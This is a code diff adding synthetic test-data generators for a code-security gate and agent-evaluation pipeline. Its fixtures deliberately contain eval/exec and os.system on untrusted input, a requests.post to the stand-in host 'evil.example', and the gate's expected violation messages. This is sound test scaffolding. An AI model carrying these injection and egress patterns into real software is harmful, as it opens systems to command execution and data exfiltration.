@@ -311,3 +311,209 @@ def as_spans(rows: DataFrame) -> DataFrame:
 
 def spans(spark: SparkSession, sf_dir: str) -> DataFrame:
     return as_spans(run(spark, sf_dir, SPANS_SQL))
+
+
+# Failed sessions: a document is a session log; its labels and key give the status.
+FAILURES_SQL = """
+    SELECT 's-' || CAST(d.doc_id AS STRING) AS session_id, d.doc_id AS doc_id,
+           CASE WHEN l.toxic = 1 THEN 'failed' WHEN l.quality = 0 THEN 'abandoned' WHEN l.quality = 1 THEN 'ok'
+                WHEN d.doc_id % 3 = 0 THEN 'correction' WHEN d.doc_id % 3 = 1 THEN 'failed' ELSE 'running' END AS status,
+           d.text || CASE WHEN d.doc_id % 7 = 0 THEN ' hit the Rate limit' WHEN d.doc_id % 7 = 1 THEN ' gating says eval'
+                          WHEN d.doc_id % 7 = 2 THEN ' injection payload' ELSE '' END AS text
+    FROM @documents d LEFT JOIN @labels l ON d.doc_id = l.doc_id
+"""
+
+# Patch cases and candidates: a part is a case.
+PATCH_CASES_SQL = """
+    SELECT 'case-' || CAST(p_partkey AS STRING) AS case_id, p_partkey,
+           'import os' || NL || 'def run_' || CAST(p_partkey AS STRING) || '(x):' || NL || '    # ' || p_name || NL ||
+           CASE WHEN p_partkey % 4 = 0 THEN '    eval(x)' WHEN p_partkey % 4 = 1 THEN '    os.system(x); Exec(x)'
+                WHEN p_partkey % 4 = 2 THEN '    subprocess.run(x)' ELSE '    y = x' END || NL ||
+           '    return ' || CAST(p_size AS STRING) || CASE WHEN p_partkey % 5 = 0 THEN NL ELSE '' END AS original_code,
+           element_at(LIST['AST Gating Violation: Use of prohibited function eval is blocked.', 'Untrusted input flows: taint reaches subprocess sink',
+                           'Egress Governance Violation: unapproved host', 'naming convention broken', 'nothing known at all', ''],
+                      CAST(p_partkey % 6 + 1 AS INT)) AS error_trace,
+           CASE WHEN p_partkey % 8 = 0 THEN '' ELSE 'f' || CAST(p_partkey AS STRING) || '.py' END AS context
+    FROM (SELECT p_partkey, p_name, p_size, chr(10) AS NL FROM @part) keys
+"""
+PATCH_CANDIDATES_SQL = f"""
+    SELECT case_id, candidate_no, 'model-' || CAST(candidate_no AS STRING) AS model_label, original_code, error_trace,
+           CASE WHEN candidate_no = 1 THEN replace(replace(original_code, 'eval(', 'parse('), 'os.system(', 'call(')
+                WHEN candidate_no = 2 THEN original_code ELSE '# gone' || chr(10) || 'pass' END AS patched_code,
+           CASE WHEN candidate_no = 1 THEN 'Removed the prohibited function eval and the tainted input that flows to the subprocess sink; the violation is blocked.'
+                WHEN candidate_no = 2 THEN 'No explanation provided.' ELSE 'Short naming fix ' || case_id END AS explanation,
+           element_at(LIST['CRITICAL', 'high', 'MEDIUM', 'LOW', 'severe', ''], CAST((p_partkey + candidate_no) % 6 + 1 AS INT)) AS severity
+    FROM (SELECT *, EXPLODE[1, 2, 3] AS candidate_no FROM ({PATCH_CASES_SQL}) cases) c
+    WHERE p_partkey % 17 <> 0 AND (candidate_no < 3 OR p_partkey % 2 = 0)
+"""
+
+# Agent events: a conversation is a run, its turns the events; some turns carry a finding line.
+AGENT_EVENTS_SQL = """
+    SELECT conv_id AS report_id, turn AS event_no, role,
+           CASE WHEN (conv_id + turn) % 9 = 0 THEN NULL
+                ELSE text || NL || element_at(LIST[
+                    'AST Gating Violation: Use of prohibited function ''eval'' is blocked.',
+                    'Security Policy Violation: structural policy denied', 'Dynamic Taint Gating Violation: x flows to dangerous sink',
+                    'Possible SQL Injection in src/db/query.py line 4', 'Weak hashing found at lib/a-b.js', 'Command injection: passed, safe',
+                    'SCA Vulnerable Dependency: requests (CVE-2023-32681)', 'CVE-2024-1: none', 'Code smell: TODO left in file x.go',
+                    'Hardcoded credentials in config', 'insecure cryptography and JWT token use', 'user enumeration via XSS at web/app.cpp',
+                    'All clean.', '  Outdated dependency   '], CAST((conv_id * 5 + turn) % 14 + 1 AS INT)) || NL END AS text_a,
+           CASE WHEN turn % 3 = 0 THEN '' WHEN turn % 3 = 1 THEN 'Todo: repeat' || NL END AS text_b
+    FROM (SELECT conv_id, turn, role, text, chr(10) AS NL FROM @conversations) c
+"""
+
+
+def agent_events(spark: SparkSession, sf_dir: str) -> DataFrame:
+    parts = F.array(F.struct(F.col("text_a").alias("text")), F.struct(F.col("text_b").alias("text")))
+    return run(spark, sf_dir, AGENT_EVENTS_SQL).select("report_id", "event_no", "role", parts.alias("parts"))
+
+
+# Evaluation cases: a turn of a conversation is a recorded run of three events.
+EVAL_ROWS_SQL = """
+    SELECT conv_id, turn, element_at(LIST['clean_search_flow', 'rbac_gating_violation', 'adversarial_sandbox_injection', 'context_hygiene_pii_masking', 'free_form'],
+                      CAST((conv_id + turn * 3) % 5 + 1 AS INT)) AS eval_case_id,
+           text || CASE WHEN (conv_id + turn) % 4 = 0 THEN ' agent_status=QUARANTINED' WHEN (conv_id + turn) % 4 = 1 THEN ' blocked_by_rbac=True'
+                        WHEN (conv_id + turn) % 4 = 2 THEN ' [[EMAIL_1]]' ELSE ' mail ops@example.com' END AS text_a,
+           CASE WHEN conv_id % 3 = 0 THEN 'get_search_tool' ELSE 'other_tool' END AS tool,
+           CASE WHEN conv_id % 7 < 2 THEN 'Security Anomaly: stopped' WHEN conv_id % 7 < 4 THEN 'RBAC Policy Violation: no'
+                WHEN conv_id % 7 = 4 THEN 'Quarantined' ELSE 'done' END AS answer,
+           CASE WHEN turn % 2 = 0 THEN 'remediation_triggered=True' ELSE '' END AS text_b
+    FROM @conversations
+"""
+
+
+def eval_cases(spark: SparkSession, sf_dir: str) -> DataFrame:
+    rows = run(spark, sf_dir, EVAL_ROWS_SQL)
+    call = "struct<name:string,args:map<string,string>>"
+    answer = "struct<name:string,response:map<string,string>>"
+
+    def part(text=None, called=None, answered=None):
+        return F.struct(
+            (text if text is not None else F.lit(None).cast("string")).alias("text"),
+            (called if called is not None else F.lit(None).cast(call)).alias("function_call"),
+            (answered if answered is not None else F.lit(None).cast(answer)).alias("function_response"),
+        )
+
+    def event(author, *parts):
+        content = F.struct(F.lit("model").alias("role"), F.array(*parts).alias("parts"))
+        return F.struct(F.lit(author).alias("author"), content.alias("content"))
+
+    called = F.struct(F.col("tool").alias("name"), F.create_map(F.lit("q"), F.lit("x")).alias("args"))
+    answered = F.struct(F.col("tool").alias("name"), F.create_map(F.lit("error"), F.col("answer")).alias("response"))
+    turn = F.struct(
+        F.lit(0).cast("bigint").alias("turn_index"),
+        F.array(
+            event("user", part(text=F.col("text_a"))),
+            event("agent", part(called=called.cast(call)), part(answered=answered.cast(answer))),
+            event("agent", part(text=F.col("text_b"))),
+        ).alias("events"),
+    )
+    return rows.select(
+        "conv_id", "turn", "eval_case_id", F.struct(F.array(turn).alias("turns")).alias("agent_data")
+    )
+
+
+# User feedback and webhook payloads: an event is one of each.
+FEEDBACK_SQL = """
+    SELECT event_id,
+           CASE WHEN event_id % 10 = 0 THEN 'great' WHEN event_id % 10 = 1 THEN NULL WHEN event_id % 10 = 2 THEN CAST(event_id % 5 AS STRING)
+                ELSE CAST(value AS STRING) END AS score,
+           CASE WHEN event_id % 4 = 0 THEN NULL ELSE props END AS text,
+           CASE WHEN event_id % 23 = 0 THEN 'other' WHEN event_id % 3 = 0 THEN 'feedback' END AS log_type,
+           CASE WHEN event_id % 29 = 0 THEN 'billing' WHEN event_id % 5 = 0 THEN 'audit-service' END AS service_name,
+           'u' || CAST(user_id AS STRING) AS user_id, 's' || CAST(event_id AS STRING) AS session_id
+    FROM @events
+"""
+WEBHOOK_SQL = """
+    SELECT event_id,
+           CASE WHEN event_id % 6 = 0 THEN '{}'
+                WHEN event_id % 6 = 1 THEN '{"number": ' || CAST(event_id AS STRING) || '}'
+                WHEN event_id % 6 = 2 THEN '{"repository": {"clone_url": ""}, "pull_request": {}}'
+                ELSE '{"number": ' || CAST(event_id AS STRING) || ', "pull_request": {"title": "' || event_type || ' fix"}, "repository": {"clone_url": "https://host.example/org/repo'
+                     || CAST(user_id AS STRING) || CASE WHEN event_id % 2 = 0 THEN '.git' ELSE '' END || '"}, "extra": 1}' END AS payload
+    FROM @events
+"""
+
+# Review outcomes: a patch candidate is an outcome.
+OUTCOMES_SQL = f"""
+    SELECT case_id, candidate_no, timestamp_micros(1717200000000000 + candidate_no * 1000000) AS timestamp,
+           original_code AS insecure_code, error_trace, patched_code AS proposed_patch,
+           explanation || CASE WHEN candidate_no = 1 THEN ' é "quoted" ' ELSE '' END AS explanation, severity,
+           candidate_no = 1 AS accepted,
+           CASE WHEN candidate_no = 2 THEN 'looks fine' END AS developer_comment,
+           CASE WHEN candidate_no = 1 THEN '' WHEN candidate_no = 2 THEN model_label END AS model_used
+    FROM ({PATCH_CANDIDATES_SQL}) p
+"""
+
+# Code for the gates: templates with the errors each must give (%N is the part's key, %P its path).
+GATE_TEMPLATES = [
+    ("x = 1\nprint(x)\n", []),
+    ("def broken(:\n    pass\n", ["Lint/Syntax Error in %P:1: invalid syntax"]),
+    ("try:\n    go(%N)\nexcept:\n    pass\n", ["Lint Warning: Empty exception catch block at line 3 is discouraged."]),
+    ("y = eval('%N')\n", ["AST Gating Violation: Use of prohibited function 'eval' is blocked."]),
+    (
+        "import os\nname = input()\nalias = name\nos.system(alias)\nalias = 'x'\nos.system(alias)\n",
+        ["Dynamic Taint Gating Violation: Untrusted input variable 'alias' flows to dangerous sink 'os.system' without sanitization."],
+    ),
+    ("import subprocess\nn = input()\nn = int(n)\nsubprocess.run(n)\nn = input()\nsubprocess.run(n)\n", []),
+    (
+        "import sys, os\narg = sys.argv[1]\nos.popen(arg, 1)\nexec(arg)\n",
+        [
+            "Dynamic Taint Gating Violation: Untrusted input variable 'arg' flows to dangerous sink 'os.popen' without sanitization.",
+            "AST Gating Violation: Use of prohibited function 'exec' is blocked.",
+            "Dynamic Taint Gating Violation: Untrusted input variable 'arg' flows to dangerous sink 'exec' without sanitization.",
+        ],
+    ),
+    ("import requests\nrequests.get('https://api.github.com/x/%N')\n", []),
+    (
+        "import requests\nrequests.post('http://evil.example:80/%N')\nrequests.get(url)\nrequests.get()\n",
+        [
+            "Egress Governance Violation: Outbound request to unapproved host 'evil.example' is blocked to prevent indirect prompt injection.",
+            "Egress Governance Violation: Dynamic/variable network destination in 'requests.get' cannot be verified and is blocked.",
+        ],
+    ),
+    (
+        "q = input()\nq = eval(q)\ntry:\n    pass\nexcept ValueError:\n    pass\nsocket.connect(f'{q}')\n",
+        [
+            "Lint Warning: Empty exception catch block at line 5 is discouraged.",
+            "AST Gating Violation: Use of prohibited function 'eval' is blocked.",
+            "Egress Governance Violation: Dynamic/variable network destination in 'socket.connect' cannot be verified and is blocked.",
+        ],
+    ),
+]
+
+
+def gate_files(spark: SparkSession, sf_dir: str) -> DataFrame:
+    key = F.col("p_partkey").cast("string")
+    path = F.concat(F.lit("gate/part_"), key, F.lit(".py"))
+    codes = F.array(*[F.lit(code) for code, _ in GATE_TEMPLATES])
+    code = F.element_at(codes, (F.col("p_partkey") % len(GATE_TEMPLATES) + 1).cast("int"))
+    return spread(table(spark, sf_dir, "part")).select(
+        path.alias("path"), F.replace(code, F.lit("%N"), key).alias("content")
+    )
+
+
+GATE_ERRORS_DUCKDB = f"""
+    SELECT path, CAST(n AS BIGINT) AS error_no, replace(error, '%P', path) AS error
+    FROM (SELECT 'gate/part_' || CAST(p_partkey AS VARCHAR) || '.py' AS path, unnest(errors) AS error, generate_subscripts(errors, 1) AS n
+          FROM (SELECT p_partkey, list_extract([{', '.join('[' + ', '.join(sql_text(e) for e in errors) + ']' + '::VARCHAR[]' for _, errors in GATE_TEMPLATES)}],
+                       CAST(p_partkey % {len(GATE_TEMPLATES)} + 1 AS INT)) AS errors FROM part) t) u
+"""
+
+# Commands: an order is a command that names a script by its customer key, or holds inline code.
+COMMANDS_SQL = """
+    SELECT o_orderkey AS command_id,
+           CASE WHEN o_orderkey % 4 = 0 THEN 'ls -l /data'
+                WHEN o_orderkey % 4 = 1 THEN 'python3 -c "eval(1)" && echo ok'
+                WHEN o_orderkey % 4 = 2 THEN 'python gate/part_' || CAST(o_custkey AS STRING) || '.py --fast'
+                ELSE 'cat a.txt; python gate/part_' || CAST(o_custkey AS STRING) || '.py gate/missing.py' END AS command
+    FROM @orders
+"""
+
+# Agent steps for the transition report: events in session order.
+AGENT_STEPS_SQL = """
+    SELECT 'sess-' || CAST(user_id AS STRING) AS session_id, event_id AS seq, CAST(ts AS TIMESTAMP) AS ts,
+           element_at(LIST['search_agent', 'story_agent', 'impact_agent', 'task_breakdown_agent', 'coding_agent', NULL],
+                      CAST((event_id + length(event_type)) % 6 + 1 AS INT)) AS agent
+    FROM @events
+"""
